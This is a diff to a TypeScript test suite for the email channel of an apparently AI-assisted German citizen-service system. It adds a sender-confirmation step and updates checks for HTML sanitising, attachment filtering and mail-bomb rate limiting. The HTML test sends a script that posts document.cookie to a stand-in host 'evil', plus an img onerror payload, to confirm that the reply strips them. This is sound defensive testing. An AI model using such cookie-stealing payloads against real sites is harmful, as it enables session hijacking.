@@ -38,12 +38,20 @@ function citizen(from: string) {
 
 const to = (addr: string) => (m: ParsedMail) => (Array.isArray(m.to) ? m.to : [m.to]).some((a) => a?.value.some((v) => v.address === addr));
 
+/** The first mail of an address is answered by a confirmation request; replying to it starts the conversation. */
+async function confirmed(t: ReturnType<typeof citizen>, from: string, sent: { messageId?: string }): Promise<ParsedMail> {
+  const ask = await sink.waitFor((m) => to(from)(m) && m.inReplyTo === sent.messageId);
+  expect(ask.subject).toBe('Bitte bestätigen Sie Ihre E-Mail-Adresse');
+  const r: { messageId?: string } = await t.sendMail({ from, to: SERVICE, subject: `Re: ${ask.subject}`, text: 'Ja, das bin ich.', inReplyTo: ask.messageId, references: [sent.messageId ?? '', ask.messageId ?? ''] });
+  return sink.waitFor((m) => to(from)(m) && m.inReplyTo === r.messageId);
+}
+
 async function converse(from: string, first: { subject: string; text: string }, replies: string[]): Promise<ParsedMail[]> {
   const t = citizen(from);
   const got: ParsedMail[] = [];
   try {
     const sent = await t.sendMail({ from, to: SERVICE, subject: first.subject, text: first.text });
-    let last = await sink.waitFor((m) => to(from)(m) && m.inReplyTo === sent.messageId);
+    let last = await confirmed(t, from, sent);
     got.push(last);
     for (const r of replies) {
       const quoted = `${r}\n\nViele Grüße\nErika\n\nAm 26.11.2026 um 10:00 schrieb Bürgerservice <${SERVICE}>:\n${(last.text ?? '').split('\n').map((l) => `> ${l}`).join('\n')}`;
@@ -69,6 +77,7 @@ describe('an e-mail conversation', () => {
       'Buer', 'morgen', 'ab 10 Uhr', 'Erika Mustermann', 'erika.mustermann@example.org', 'ja', 'ja',
     ]);
     expect(await sessionsOf('email')).toBe(before + 1);
+    expect(mails[0].text).toMatch(/E-Mail-Adresse ist bestätigt/);
     expect(mails[0].text).toMatch(/KI-Assistent/);
     expect(mails[0].text).toMatch(/BÜRGERcenter/);
     expect(mails[0].subject).toBe('Re: Termin im Bürgerbüro');
@@ -88,8 +97,8 @@ describe('an e-mail conversation', () => {
     const from = 'html@example.org';
     const t = citizen(from);
     const sent = await t.sendMail({ from, to: SERVICE, subject: 'Termin', html: '<html><body><script>fetch("http://evil/"+document.cookie)</script><p>Ich brauche einen Termin für den <b>Reisepass</b></p><img src=x onerror="alert(1)"></body></html>' });
+    const reply = await confirmed(t, from, sent);
     t.close();
-    const reply = await sink.waitFor((m) => to(from)(m) && m.inReplyTo === sent.messageId);
     expect(reply.text).toMatch(/BÜRGERcenter/);
     expect(reply.text).not.toMatch(/fetch|cookie|alert/);
     const rows = stack.engine.db.prepare("SELECT id FROM sessions WHERE channel = 'email' ORDER BY created_at DESC LIMIT 1").all() as { id: string }[];
@@ -112,8 +121,8 @@ describe('attachments', () => {
         { filename: 'tool.exe', content: Buffer.from('MZ....'), contentType: 'application/x-msdownload' },
       ],
     });
+    const reply = await confirmed(t, from, sent);
     t.close();
-    const reply = await sink.waitFor((m) => to(from)(m) && m.inReplyTo === sent.messageId);
     expect(reply.text).toMatch(/"bestaetigung\.pdf" wurde für die Sachbearbeitung gespeichert/);
     expect(reply.text).toMatch(/"tool\.exe" wurde nicht angenommen \(Dateityp nicht erlaubt\)/);
     expect(reply.attachments).toHaveLength(0);
@@ -162,10 +171,12 @@ describe('a mail bomb', () => {
     t.close();
     const accepted = results.filter((r) => r.status === 'fulfilled').length;
     const refused = results.filter((r) => r.status === 'rejected' && (r.reason as { responseCode?: number }).responseCode === 450).length;
+    const retryLater = results.filter((r) => r.status === 'rejected' && (r.reason as { responseCode?: number }).responseCode === 421).length;
     expect(accepted).toBeLessThanOrEqual(3);
-    expect(refused).toBeGreaterThanOrEqual(997);
+    expect(refused + retryLater).toBeGreaterThanOrEqual(997);
     await channel!.idle();
-    expect(await sessionsOf('email')).toBe(before + accepted);
+    // Not one session: an address that has not confirmed itself opens none.
+    expect(await sessionsOf('email')).toBe(before);
     expect(accepted).toBeGreaterThan(0);
     expect(emailLogs.filter((l) => l.reason === 'sender_rate' || l.reason === 'new_thread_rate').length).toBeGreaterThan(0);
     expect(JSON.stringify(emailLogs)).not.toContain(from);
